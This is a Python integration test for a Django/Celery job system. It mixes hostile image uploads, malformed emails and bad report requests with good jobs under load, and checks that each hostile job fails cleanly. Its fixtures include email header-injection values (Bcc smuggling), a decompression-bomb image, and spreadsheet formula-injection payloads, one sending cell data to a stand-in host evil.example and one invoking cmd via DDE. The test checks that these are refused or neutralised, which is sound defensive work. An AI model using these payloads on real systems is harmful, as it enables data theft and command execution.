"""Hostile input of all three task modules at once, inside a load.

Each module's own tests take its hostile cases one at a time
(tests/media_tasks/test_hostile_files.py, tests/mail_tasks/,
tests/reports/). Here they are enqueued together, shuffled into a few
hundred good jobs on every queue, through the services the API, the admin
and beat use, and run by the production worker groups (`general`: default
and email; `heavy`: images and reports). Each hostile job must fail alone,
once, with its own readable error (or end as its module documents: a
bounced message, a request refused before anything is stored); every good
job succeeds once, nothing is left running, the workers are the processes
that started, and no effect is doubled.
"""

import random
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission, User
from django.core.files.base import ContentFile
from django.db.models import Max

from jobs.models import ACTIVE_STATUSES, Job, JobStatus
from jobs.queues import WORKER_GROUPS
from jobs.registry import get_job_task
from jobs.services import job_enqueue
from mail_tasks import services as mail
from mail_tasks.models import Campaign, CampaignStatus, MessageStatus, OutboundAttachment, OutboundMessage
from media_tasks import services as media
from media_tasks.models import Image, Rendition
from reports import services as reports
from reports.models import ReportRun
from reports.params import InvalidParams
from reports.registry import report_types
from reports.services import SCHEDULE_TASK
from tests.helpers import wait_for
from tests.mail_tasks import settings as mail_test_settings
from tests.mail_tasks.smtp_servers import Rejecting, SmtpServer
from tests.media_tasks import samples
from tests.media_tasks.conftest import TESTDATA, stored_files
from tests.reports.readers import csv_rows, xlsx_cells

pytestmark = pytest.mark.integration

SEED = 7  # the interleaving is shuffled, the same way every run
SENDER = "kit@example.com"
# The SMTP server answers 550 to every recipient starting with this.
REFUSED_PREFIX = "nobody"


def _550(address: str) -> str:
    return f"550 5.1.1 <{address}>: Recipient address rejected: User unknown"


# -- The cases -------------------------------------------------------------------

GOOD_IMAGES = ["hopper.jpg", "hopper.png", "hopper.webp", "hopper.gif", "hopper_orientation_6.jpg", "flower2.jpg"]
_NOT_ACCEPTED = "files are not accepted (the format is read from the content, not the name)"


def hostile_images() -> dict[str, tuple[bytes, str]]:
    """Upload name -> (content, how its job's error starts)."""
    flower = (TESTDATA / "flower.jpg").read_bytes()
    too_large = "BadInput: image too large: Image size ({} pixels) exceeds limit of"
    return {
        "bomb.gif": ((TESTDATA / "decompression_bomb.gif").read_bytes(), too_large.format(4364696535)),
        "huge.png": (samples.png_declaring(20000, 20000), too_large.format(400000000)),
        "photoshop.jpg": ((TESTDATA / "hopper.psd").read_bytes(), f"BadInput: Photoshop (PSD) {_NOT_ACCEPTED}"),
        "postscript.jpg": (
            (TESTDATA / "pil_sample_cmyk.eps").read_bytes(),
            f"BadInput: PostScript (EPS) {_NOT_ACCEPTED}",
        ),
        "broken.png": (
            (TESTDATA / "broken.png").read_bytes(),
            "BadInput: the file looks like PNG but is corrupt or truncated",
        ),
        "truncated.jpg": (flower[: len(flower) // 2], "BadInput: the image is corrupt or truncated: image file is"),
        "greeting.png": (b"hello, world", "BadInput: not a recognised image; accepted formats: JPEG, PNG, WEBP"),
    }


# Refused by email_send itself: the message is stored FAILED, no job, nothing sent.
REFUSED_EMAILS = [
    ("ann.example.com", "mail_tasks/welcome", {}, "recipient 'ann.example.com' is not a valid email address"),
    ("eve@example.com\nBcc: all@example.com", "mail_tasks/welcome", {}, "recipient contains a line break"),
    (
        "mallory@example.com",
        "mail_tasks/welcome",
        {"name": "Mallory\r\nBcc: all@example.com"},
        "subject contains a line break (header injection)",
    ),
    ("trent@example.com", "mail_tasks/nope", {}, "email template mail_tasks/nope/subject.txt does not exist"),
    (
        "peggy@example.com",
        "mail_tests/strict",
        {"plan": "pro"},
        "email template mail_tests/strict/body.txt failed to render: VariableDoesNotExist",
    ),
]

INVOICE_TASK = "shop.invoice_render"
# Job errors a report exports: text a spreadsheet would run as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A2)"]
ERROR_COLUMN = 13  # of jobs.export

# What beat sends (a PeriodicTask's kwargs); the tick job fails, no run is made.
# A job stores InvalidParams as "BadInput: ...": Celery keeps the nearest base
# class it can rebuild from the exception's args (InvalidParams takes a dict).
HOSTILE_TICKS = [
    (
        {"type": "jobs.export", "format": "csv", "params": {"period": {"from": "2026-02-01", "to": "2026-01-01"}}},
        "BadInput: params.period: from 2026-02-01 is after to 2026-01-01",
    ),
    (
        {"type": "jobs.export", "format": "csv", "params": {"colour": "red"}},
        "BadInput: params.colour: unknown parameter; this report takes: period, task, queue, status",
    ),
    (
        {"type": "jobs.activity", "format": "csv", "params": {"bucket": "hour", "period": {"last_days": 60}}},
        "BadInput: params.period: hourly rows cover at most 31 days, this period has 60; use bucket day",
    ),
    (
        {"type": "jobs.export", "format": "csv", "owner": "ghost"},
        "BadInput: owner 'ghost' is not a user (give a username or a user id)",
    ),
    (
        {"type": "jobs.export", "format": "csv", "email_to": ["not an address"]},
        "BadInput: email_to: 'not an address' is not a valid email address",
    ),
]
GOOD_TICK = {"type": "jobs.export", "format": "csv", "params": {"task": INVOICE_TASK}}


def stale_runs() -> list[tuple[dict, str]]:
    """Stored runs that no longer pass (a type removed since, a tampered
    row), regenerated as the admin does: the job fails, no file is made."""
    return [
        (
            {"report_type": "tests.removed", "format": "csv", "params": {}},
            f"BadInput: type: unknown report type 'tests.removed'; available: {', '.join(report_types())}",
        ),
        (
            {"report_type": "jobs.export", "format": "csv", "params": {"period": {"from": "1 March", "to": "today"}}},
            "BadInput: params.period: from must be a date like 2026-11-30, today or yesterday; got '1 March'",
        ),
        ({"report_type": "jobs.export", "format": "docx", "params": {}}, "BadInput: jobs.export is not made as docx"),
    ]


# Refused by report_request (the API's 400): nothing is stored.
REFUSED_REPORTS = [
    ({"report_type": "jobs.nothing", "format": "csv"}, "type: unknown report type 'jobs.nothing'"),
    (
        {
            "report_type": "jobs.export",
            "format": "csv",
            "params": {"period": {"from": "2025-01-01", "to": "2026-12-31"}},
        },
        "params.period: 730 days is longer than the 366 days allowed",
    ),
    (
        {"report_type": "jobs.export", "format": "csv", "params": {"status": ["SUCCESS", "SLEEPING"]}},
        "params.status: unknown value 'SLEEPING'",
    ),
    ({"report_type": "jobs.export", "format": "xlsx", "email_to": ["x@y"]}, "email_to: 'x@y' is not a valid email"),
]


# -- What was asked for -----------------------------------------------------------


@dataclass
class Ledger:
    """Every job asked for and how it must end, and the effects expected."""

    succeed: set[str] = field(default_factory=set)
    fail: dict[str, str] = field(default_factory=dict)  # job id -> how its error starts
    good_images: set = field(default_factory=set)
    mailed: Counter = field(default_factory=Counter)  # address -> emails the server must get
    messages: dict[str, str] = field(default_factory=dict)  # address -> the message's end status
    message_errors: dict[str, str] = field(default_factory=dict)  # address -> part of last_error
    reports: dict = field(default_factory=dict)  # run id -> format, for good runs
    good_ticks: list[str] = field(default_factory=list)
    stale: set = field(default_factory=set)
    refused_keys: list[str] = field(default_factory=list)

    def good(self, job_id) -> None:
        self.succeed.add(str(job_id))

    def bad(self, job_id, error: str) -> None:
        self.fail[str(job_id)] = error


def good_load(ledger: Ledger, asker: User) -> list[Callable[[], None]]:
    """A few hundred jobs that must all succeed, on every queue."""
    actions: list[Callable[[], None]] = []

    def job(task_name: str, **kwargs):
        actions.append(lambda: ledger.good(job_enqueue(task_name=task_name, **kwargs).id))

    for _ in range(160):
        job("jobs.noop")
    for _ in range(40):
        job("testapp.block", kwargs={"seconds": 0.01})
    for name in ("testapp.noop_email", "testapp.noop_images", "testapp.noop_reports"):
        for _ in range(20):
            job(name)

    def image(index: int, name: str):
        def upload():
            made = media.image_upload(file=ContentFile((TESTDATA / name).read_bytes(), name=f"{index}-{name}"))
            ledger.good(made.job_id)
            ledger.good_images.add(made.pk)

        actions.append(upload)

    for index in range(24):
        image(index, GOOD_IMAGES[index % len(GOOD_IMAGES)])

    def email(address: str):
        def send():
            message = mail.email_send(template="mail_tasks/welcome", to=address, context={"name": "Guest"})
            ledger.good(message.job_id)
            ledger.mailed[address] += 1
            ledger.messages[address] = MessageStatus.SENT

        actions.append(send)

    for index in range(60):
        email(f"guest{index}@example.com")

    def report(format: str, report_type: str = "jobs.export", params=None, email_to=()):
        params = {"task": INVOICE_TASK} if params is None else params

        def ask():
            run = reports.report_request(
                report_type=report_type, format=format, params=params, owner=asker, email_to=email_to
            )
            ledger.good(run.job_id)
            ledger.reports[run.pk] = format
            for address in email_to:
                if address.startswith(REFUSED_PREFIX):
                    ledger.messages[address] = MessageStatus.BOUNCED
                    ledger.message_errors[address] = _550(address)
                else:
                    ledger.mailed[address] += 1
                    ledger.messages[address] = MessageStatus.SENT

        actions.append(ask)

    for _ in range(12):
        report("csv")
    for _ in range(4):
        report("xlsx")
    for _ in range(2):
        report("pdf", "jobs.activity", {"period": {"last_days": 1}})
    report("csv", email_to=["ops@example.com"])
    # The report is made; its email to the second address bounces alone.
    report("xlsx", email_to=["ops2@example.com", f"{REFUSED_PREFIX}-report@example.com"])

    def tick():
        job_id = get_job_task(SCHEDULE_TASK).apply_async(kwargs=GOOD_TICK).id
        ledger.good(job_id)
        ledger.good_ticks.append(job_id)

    actions += [tick, tick]
    return actions


def hostile_load(ledger: Ledger, asker: User) -> list[Callable[[], None]]:
    """Every hostile case of the three modules."""
    actions: list[Callable[[], None]] = []

    def image(name: str, data: bytes, error: str):
        actions.append(lambda: ledger.bad(media.image_upload(file=ContentFile(data, name=name)).job_id, error))

    for name, (data, error) in hostile_images().items():
        image(name, data, error)

    def bounced(address: str):
        def send():
            message = mail.email_send(template="mail_tasks/welcome", to=address)
            ledger.bad(message.job_id, f"BadInput: {_550(address)}")
            ledger.messages[address] = MessageStatus.BOUNCED
            ledger.message_errors[address] = _550(address)

        actions.append(send)

    for index in range(2):
        bounced(f"{REFUSED_PREFIX}-{index}@example.com")

    def refused_email(to: str, template: str, context: dict, error: str):
        def send():
            message = mail.email_send(template=template, to=to, context=context)
            assert message.job_id is None, f"a job was asked for a refused email to {to!r}"
            ledger.messages[to] = MessageStatus.FAILED
            ledger.message_errors[to] = error

        actions.append(send)

    for case in REFUSED_EMAILS:
        refused_email(*case)

    def campaign():
        readers = [{"email": f"reader{i}@example.com", "surname": f"Doe{i}", "plan": "pro"} for i in range(40)]
        hostile = [
            {"email": f"{REFUSED_PREFIX}-reader@example.com", "surname": "Nobody", "plan": "pro"},
            {"email": "nosurname@example.com", "plan": "pro"},  # the template needs a surname
            {"email": "not an address", "surname": "X", "plan": "pro"},
        ]
        made = mail.campaign_create(
            name="renewals", template="mail_tests/strict", recipients=readers + hostile, batch_size=15
        )
        # Bad recipients fail their own message; the batch jobs succeed.
        for job_id in Job.objects.filter(task_name=mail.BATCH_TASK, args__0=made.pk).values_list("id", flat=True):
            ledger.good(job_id)
        for reader in readers:
            ledger.mailed[reader["email"]] += 1
            ledger.messages[reader["email"]] = MessageStatus.SENT
        ledger.messages.update(
            {hostile[0]["email"]: MessageStatus.BOUNCED, "nosurname@example.com": MessageStatus.FAILED}
        )
        ledger.messages["not an address"] = MessageStatus.FAILED
        ledger.message_errors.update(
            {
                hostile[0]["email"]: _550(hostile[0]["email"]),
                "nosurname@example.com": "email template mail_tests/strict/body.txt failed to render: "
                "VariableDoesNotExist",
                "not an address": "recipient 'not an address' is not a valid email address",
            }
        )

    actions.append(campaign)

    def tick(kwargs: dict, error: str):
        def send():
            ledger.bad(get_job_task(SCHEDULE_TASK).apply_async(kwargs=kwargs).id, error)

        actions.append(send)

    for kwargs, error in HOSTILE_TICKS:
        tick(kwargs, error)

    def stale(fields: dict, error: str):
        def regenerate():
            run = ReportRun.objects.create(owner=asker, **fields)
            ledger.bad(reports.report_enqueue(run=run, requested_by=asker).id, error)
            ledger.stale.add(run.pk)

        actions.append(regenerate)

    for fields, error in stale_runs():
        stale(fields, error)

    def refused_report(index: int, request: dict, error: str):
        def ask():
            key = f"refused-{index}"
            with pytest.raises(InvalidParams) as refused:
                reports.report_request(owner=asker, idempotency_key=key, **request)
            assert str(refused.value).startswith(error), str(refused.value)
            ledger.refused_keys.append(key)

        actions.append(ask)

    for index, (request, error) in enumerate(REFUSED_REPORTS):
        refused_report(index, request, error)
    return actions


# -- Fixtures ---------------------------------------------------------------------


@pytest.fixture
def roots(settings, tmp_path) -> dict[str, Path]:
    """MEDIA_ROOT and REPORTS_ROOT of the test's own, shared with the
    workers; the test-only email templates; one sender everywhere."""
    media_root, reports_root = tmp_path / "media", tmp_path / "reports"
    media_root.mkdir()
    reports_root.mkdir()
    settings.MEDIA_ROOT = str(media_root)
    settings.REPORTS_ROOT = reports_root
    settings.REPORTS_STORAGE = ""
    settings.TEMPLATES = mail_test_settings.TEMPLATES
    settings.DEFAULT_FROM_EMAIL = SENDER
    return {"media": media_root, "reports": reports_root}


@pytest.fixture
def smtp():
    """A real SMTP server on loopback that answers 550 to `nobody...`."""
    server = SmtpServer(Rejecting(prefix=REFUSED_PREFIX)).start()
    yield server
    server.stop()


@pytest.fixture
def worker_env(worker_env, roots, smtp) -> dict:
    return {
        **worker_env,
        **smtp.env(),
        "DJANGO_SETTINGS_MODULE": "tests.mail_tasks.settings",  # the test-only templates
        "DEFAULT_FROM_EMAIL": SENDER,
        "EMAIL_TIMEOUT": "5",
        "MAIL_RETRY_BACKOFF_SECONDS": "1",
        "MAIL_RETRY_MAX": "3",
        "DJANGO_MEDIA_ROOT": str(roots["media"]),
        "REPORTS_ROOT": str(roots["reports"]),
    }


@pytest.fixture
def asker(transactional_db) -> User:
    user = User.objects.create_user("olivia", "olivia@example.com", "pw")
    for app_label, codename in (("reports", "add_reportrun"), ("jobs", "view_job")):
        user.user_permissions.add(Permission.objects.get(content_type__app_label=app_label, codename=codename))
    return User.objects.get(pk=user.pk)


def by_status() -> dict:
    return dict(Counter(Job.objects.exclude(task_name=INVOICE_TASK).values_list("status", flat=True)))


# -- The test ---------------------------------------------------------------------


def test_hostile_images_emails_and_reports_fail_their_own_jobs_under_load_while_the_rest_succeed_once(
    start_worker, asker, roots, smtp
):
    Job.objects.bulk_create(
        Job(task_name=INVOICE_TASK, queue="default", status=JobStatus.FAILURE, error=text) for text in FORMULAS
    )
    queues = {group: ",".join(queue.value for queue in members) for group, members in WORKER_GROUPS.items()}
    workers = [
        start_worker(queues=queues["general"], concurrency=2),
        start_worker(queues=queues["heavy"], concurrency=2),
    ]
    started = [(worker.process.pid, sorted(worker.child_pids())) for worker in workers]

    ledger = Ledger()
    actions = good_load(ledger, asker) + hostile_load(ledger, asker)
    random.Random(SEED).shuffle(actions)
    for action in actions:
        action()

    try:
        wait_for(
            lambda: not Job.objects.filter(status__in=ACTIVE_STATUSES).exists(), timeout=150, what="every job to finish"
        )
    except AssertionError as exc:
        raise AssertionError(f"{exc}; jobs by status: {by_status()}") from None

    # The workers carried on: the same main processes, the same pool children.
    for worker, (pid, children) in zip(workers, started, strict=True):
        assert worker.process.poll() is None, worker.read_log()[-3000:]
        assert (worker.process.pid, sorted(worker.child_pids())) == (pid, children), "a worker child was replaced"

    # Jobs made by jobs: the runs of good ticks, and the reports' emails.
    tick_runs = ReportRun.objects.filter(idempotency_key__in=[f"schedule:{tick}" for tick in ledger.good_ticks])
    assert tick_runs.count() == len(ledger.good_ticks)
    for run in tick_runs:
        ledger.good(run.job_id)
        ledger.reports[run.pk] = run.format
    for message in OutboundMessage.objects.filter(idempotency_key__startswith="reports:"):
        if message.to.startswith(REFUSED_PREFIX):
            ledger.bad(message.job_id, f"BadInput: {_550(message.to)}")
        else:
            ledger.good(message.job_id)

    # Every job ended as it must, and there is no other job.
    rows = Job.objects.exclude(task_name=INVOICE_TASK).values_list("id", "task_name", "args", "status", "error")
    jobs = {str(pk): (status, error) for pk, _, _, status, error in rows}
    assert not ledger.succeed & set(ledger.fail)
    unexpected = [row for row in rows if str(row[0]) not in ledger.succeed | set(ledger.fail)]
    assert not unexpected, f"jobs nobody asked for: {unexpected}"
    assert set(jobs) == ledger.succeed | set(ledger.fail), "asked-for jobs are missing"
    not_succeeded = {pk: jobs[pk] for pk in ledger.succeed if jobs[pk][0] != JobStatus.SUCCESS}
    assert not not_succeeded, not_succeeded
    for pk, error in ledger.fail.items():
        assert jobs[pk][0] == JobStatus.FAILURE, (error, jobs[pk])
        assert jobs[pk][1].startswith(error), (error, jobs[pk])
    assert len({jobs[pk][1] for pk in ledger.fail}) == len(ledger.fail), "each hostile job has its own message"
    # Failed at once, never retried; nothing good ran twice.
    assert Job.objects.exclude(task_name=INVOICE_TASK).aggregate(most=Max("attempts"))["most"] == 1
    assert len(ledger.succeed) > 300 and len(ledger.fail) >= 15

    # Email: one per good recipient at the server, none for the others.
    assert Counter(smtp.handler.recipients()) == ledger.mailed
    assert len(smtp.received) == sum(ledger.mailed.values())
    stored = dict(OutboundMessage.objects.values_list("to", "status"))
    assert stored == ledger.messages
    errors = dict(OutboundMessage.objects.exclude(status=MessageStatus.SENT).values_list("to", "last_error"))
    for address, error in ledger.message_errors.items():
        assert error in errors[address], (address, errors[address])
    campaign = Campaign.objects.get()
    assert campaign.status == CampaignStatus.DONE

    # Images: one set of renditions per good image, none for the hostile ones,
    # and no file that no row points at.
    per_image = Counter(Rendition.objects.values_list("image_id", flat=True))
    assert per_image == dict.fromkeys(ledger.good_images, 3)
    assert set(Rendition.objects.values_list("name", flat=True)) == {"thumb", "medium", "large"}
    expected_files = {
        *Image.objects.values_list("original", flat=True),
        *Rendition.objects.values_list("file", flat=True),
        *OutboundAttachment.objects.values_list("file", flat=True),
    }
    assert stored_files(roots["media"]) == expected_files

    # Reports: one file per good run, none for the refused or stale ones,
    # formulas neutralised in every file.
    runs = {run.pk: run for run in ReportRun.objects.all()}
    assert set(runs) == set(ledger.reports) | ledger.stale
    assert not ReportRun.objects.filter(idempotency_key__in=ledger.refused_keys).exists()
    assert len(ledger.refused_keys) == len(REFUSED_REPORTS)
    assert stored_files(roots["reports"]) == {runs[pk].file.name for pk in ledger.reports}
    assert {runs[pk].file.name for pk in ledger.stale} == {""}
    for pk, format in ledger.reports.items():
        path = roots["reports"] / runs[pk].file.name
        if format == "csv":
            _, *rows = csv_rows(path)
            assert sorted(row[ERROR_COLUMN] for row in rows) == sorted("'" + text for text in FORMULAS)
        elif format == "xlsx":
            _, *rows = xlsx_cells(path)
            cells = [row[ERROR_COLUMN] for row in rows]
            assert sorted(cell.value for cell in cells) == sorted(FORMULAS)
            assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
        else:
            assert path.read_bytes().startswith(b"%PDF")
    print(f"{len(ledger.succeed)} good jobs, {len(ledger.fail)} hostile jobs; {by_status()}")
